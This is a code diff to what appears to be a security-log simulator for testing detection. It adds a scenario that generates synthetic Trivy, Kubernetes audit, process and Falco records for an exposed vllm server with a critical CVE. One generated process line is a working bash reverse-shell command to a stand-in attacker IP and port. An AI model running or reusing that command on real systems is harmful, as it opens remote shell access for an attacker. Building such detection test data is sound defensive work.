@@ -13,6 +13,7 @@ points at its own attackers and victims.
 
 from __future__ import annotations
 
+import copy
 import random
 from collections.abc import Callable
 from dataclasses import dataclass, field
@@ -25,7 +26,9 @@ from streams.simulator.world import (
     ACCOUNT_ID,
     ARTIFACT_BUCKET,
     EXTERNAL_HOSTS,
+    IMAGE_PACKAGES,
     REGION,
+    SITE_PACKAGES,
     SOURCE_SHARES,
     TRAINING_BUCKET,
     ApiKey,
@@ -35,6 +38,7 @@ from streams.simulator.world import (
     World,
     br_call,
     gw_call,
+    image_report,
     main_proc,
     p_cloudtrail,
     s3_call,
@@ -1257,6 +1261,60 @@ def cost_harvesting(ctx: Ctx) -> Plan:
     )
 
 
+# ---------------------------------------------------------------------------------------------
+# 13. a vulnerable model server, exposed and in use, then a reverse shell (Trivy + k8s audit + runtime)
+
+
+def vulnerable_model_server(ctx: Ctx) -> Plan:
+    """A Trivy scan names a critical vllm CVE in a model server's image; someone opens the server with a
+    LoadBalancer; the server (re)starts, so vllm is in use; an attacker's payload spawns a reverse shell."""
+    from schemas.sources import SOURCES  # noqa: PLC0415 - the report is sent as `aiwarden publish` splits it
+
+    rng, world = ctx.rng, ctx.world
+    w = ctx.take_workload(("vllm",), ("ml-prod", "inference"))
+    engineers = [u for u in world.k8s_users if u.username.endswith("@acme.example") and u.username not in ctx.used]
+    user = rng.choice(engineers or [u for u in world.k8s_users if "@" in u.username])
+    ctx.used.add(user.username)
+    version = dict(IMAGE_PACKAGES["vllm"])["vllm"]
+    rce = F.trivy_vulnerability("CVE-2024-11041", "vllm", version, "0.6.5", "CRITICAL", 9.8,
+                                "vllm: remote code execution via pickle deserialization in MessageQueue",
+                                SITE_PACKAGES)
+    attacker = doc_ip(rng, ("203.0.113", "192.0.2"))
+    port = rng.choice((4444, 9001, 1337))
+    gaps = [rng.uniform(1, 5), rng.uniform(20, 60), rng.uniform(10, 40), rng.uniform(30, 120), 0.05]
+    times = ctx.sequence(gaps)
+    report = SOURCES["trivy"].split(image_report(rng, times[0], w, [rce]))
+    name = f"{w.deployment}-public"
+    lb = F.k8s_service(name, w.namespace, {"app": w.deployment}, "LoadBalancer", w.kind.port)
+    launcher = F.proc("sh", f"sh -c bash -i >& /dev/tcp/{attacker}/{port} 0>&1", main_proc(w)["name"], "/bin/sh",
+                      "root")
+    rev = F.proc("bash", "bash -i", "sh", "/bin/bash", "root")
+    steps: list[Step] = [(times[0] + i, "trivy", partial(_fixed, record=record)) for i, record in enumerate(report)]
+    steps += [
+        (times[1], "k8s_audit", partial(u_k8s, u=user, verb="create", group_version="v1", resource="services",
+                                        namespace=w.namespace, name=name, code=201, request_object=lb,
+                                        level="RequestResponse")),
+        (times[2], "native", partial(w_native, w=w, kind="process_exec", process=main_proc(w))),
+        (times[3], "native", partial(w_native, w=w, kind="process_exec", process=launcher)),
+        (times[4], "falco", partial(w_falco, w=w, rule="Redirect STDOUT/STDIN to Network Connection in Container",
+                                    process=rev, evt_type="dup2", dst=(attacker, port))),
+    ]
+    return Plan(
+        "vulnerable_model_server",
+        f"{w.namespace}/{w.pod}: vllm {version} with CVE-2024-11041 (critical, fix 0.6.5) in use, exposed by "
+        f"LoadBalancer {name} ({user.username}), then a reverse shell to {attacker}:{port}",
+        ["AML.T0049", "AML.T0050"],
+        ["T1190", "T1059.004"],
+        uniq([*workload_entities(w), ent.image(w.image), ent.ip(attacker)]),
+        steps,
+    )
+
+
+def _fixed(_rng: random.Random, _t: int, record: Record) -> Record:
+    """A record made at planning time (a scanner report's part: its time is the scan's)."""
+    return copy.deepcopy(record)
+
+
 SCENARIOS: dict[str, Callable[[Ctx], Plan]] = {
     "model_extraction": model_extraction,
     "model_inversion": model_inversion,
@@ -1270,5 +1328,6 @@ SCENARIOS: dict[str, Callable[[Ctx], Plan]] = {
     "stolen_api_key": stolen_api_key,
     "logging_tampering": logging_tampering,
     "cost_harvesting": cost_harvesting,
+    "vulnerable_model_server": vulnerable_model_server,
 }
 ALL_SCENARIOS: tuple[str, ...] = tuple(SCENARIOS)
